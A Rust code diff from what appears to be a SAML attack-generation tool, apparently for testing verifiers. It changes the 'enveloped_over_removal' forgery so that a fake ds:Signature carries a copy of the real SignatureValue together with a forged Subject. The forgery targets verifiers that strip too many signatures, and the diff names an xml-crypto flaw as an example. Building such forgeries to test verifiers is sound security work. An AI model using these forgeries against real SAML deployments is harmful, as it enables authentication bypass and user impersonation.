@@ -159,10 +159,11 @@ fn second_signed_info(doc: &Doc, si: crate::bytes::Node, evil: &str) -> Result<S
     Ok(crate::family::cut(doc.src, si.range(), edits))
 }
 
-/// A fake `ds:Signature` right after the Assertion's real one, holding a forged Subject: a
-/// verifier whose enveloped transform drops every Signature inside the Assertion digests the
-/// original bytes, and a reader taking the first NameID below the Assertion reads the forged
-/// one (enveloped-signature over-removal).
+/// A fake `ds:Signature` right after the Assertion's real one, carrying a copy of its
+/// SignatureValue and a forged Subject: a verifier whose enveloped transform drops every
+/// Signature inside the Assertion, or every one with the verified SignatureValue (xml-crypto
+/// before node-saml/xml-crypto#585), digests the original bytes, and a reader taking the
+/// first NameID below the Assertion reads the forged one (enveloped-signature over-removal).
 pub fn enveloped_over_removal(f: &Forge) -> Result<Forged, Skip> {
     let doc = Doc::parse(f.seed)?;
     let p = Parts::of(&doc)?;
@@ -176,7 +177,10 @@ pub fn enveloped_over_removal(f: &Forge) -> Result<Forged, Skip> {
         ));
     }
     let forged_subject = crate::family::cut(doc.src, subject.range(), edits);
-    let fake = format!("<ds:Signature xmlns:ds=\"{DSIG_NS}\">{forged_subject}</ds:Signature>");
+    let value = child(sig, DSIG_NS, "SignatureValue")
+        .and_then(|v| v.text())
+        .unwrap_or_default();
+    let fake = format!("<ds:Signature xmlns:ds=\"{DSIG_NS}\"><ds:SignatureValue>{value}</ds:SignatureValue>{forged_subject}</ds:Signature>");
     forged(
         p.splice_unsigned_response(vec![insert(sig.range().end, fake)]),
         swap,
